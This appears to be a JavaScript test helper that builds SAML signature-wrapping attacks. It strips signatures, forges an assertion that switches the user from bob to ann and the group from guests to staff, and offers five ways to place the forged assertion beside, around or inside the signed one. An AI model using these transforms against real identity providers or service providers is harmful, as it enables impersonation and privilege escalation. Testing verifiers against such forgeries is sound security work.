// SPDX-License-Identifier: GPL-3.0-or-later
// What an attacker does to a SAMLResponse, as text.

export const decode = (form) => Buffer.from(form.fields.SAMLResponse, 'base64').toString();
export const encode = (xml) => Buffer.from(xml).toString('base64');
export const forged = (form, change) => ({ ...form, fields: { ...form.fields, SAMLResponse: encode(change(decode(form))) } });

const signature = /<ds:Signature\b[\s\S]*?<\/ds:Signature>/g;
const assertionOf = (xml) => /<saml:Assertion\b[\s\S]*<\/saml:Assertion>/.exec(xml)?.[0];

// Which parts of a response are signed.
export function signedParts(xml) {
  const assertion = assertionOf(xml) ?? '';
  return { response: (xml.replace(assertion, '').match(signature) ?? []).length, assertion: (assertion.match(signature) ?? []).length };
}

export const withoutSignatures = (xml) => xml.replace(signature, '');

const rename = (assertion) => withoutSignatures(assertion).replace(/\bID="[^"]*"/, 'ID="_evil"').replaceAll('bob@', 'ann@').replaceAll('>bob<', '>ann<').replaceAll('guests', 'staff');

// Signature wrapping: an assertion of the attacker's beside the signed one, where careless software looks first, or last, or where the signed
// one is moved out of the way.
export const wrappings = {
  'forged assertion before the signed one': (xml) => xml.replace(assertionOf(xml), (a) => rename(a) + a),
  'forged assertion after the signed one': (xml) => xml.replace(assertionOf(xml), (a) => a + rename(a)),
  'signed assertion inside Extensions': (xml) => xml.replace(assertionOf(xml), (a) => rename(a))
    .replace('<samlp:Status>', () => `<samlp:Extensions>${assertionOf(xml)}</samlp:Extensions><samlp:Status>`),
  'signed assertion inside the forged one': (xml) => xml.replace(assertionOf(xml), (a) => rename(a).replace('</saml:Assertion>', `<saml:Advice>${a}</saml:Advice></saml:Assertion>`)),
  'signed assertion inside the Object of its own signature': (xml) => xml.replace(assertionOf(xml), (a) => {
    const own = a.match(signature)[0];
    const inner = a.replace(own, '');
    return rename(a).replace('<saml:Subject>', `${own.replace('</ds:Signature>', `<ds:Object>${inner}</ds:Object></ds:Signature>`)}<saml:Subject>`);
  }),
};
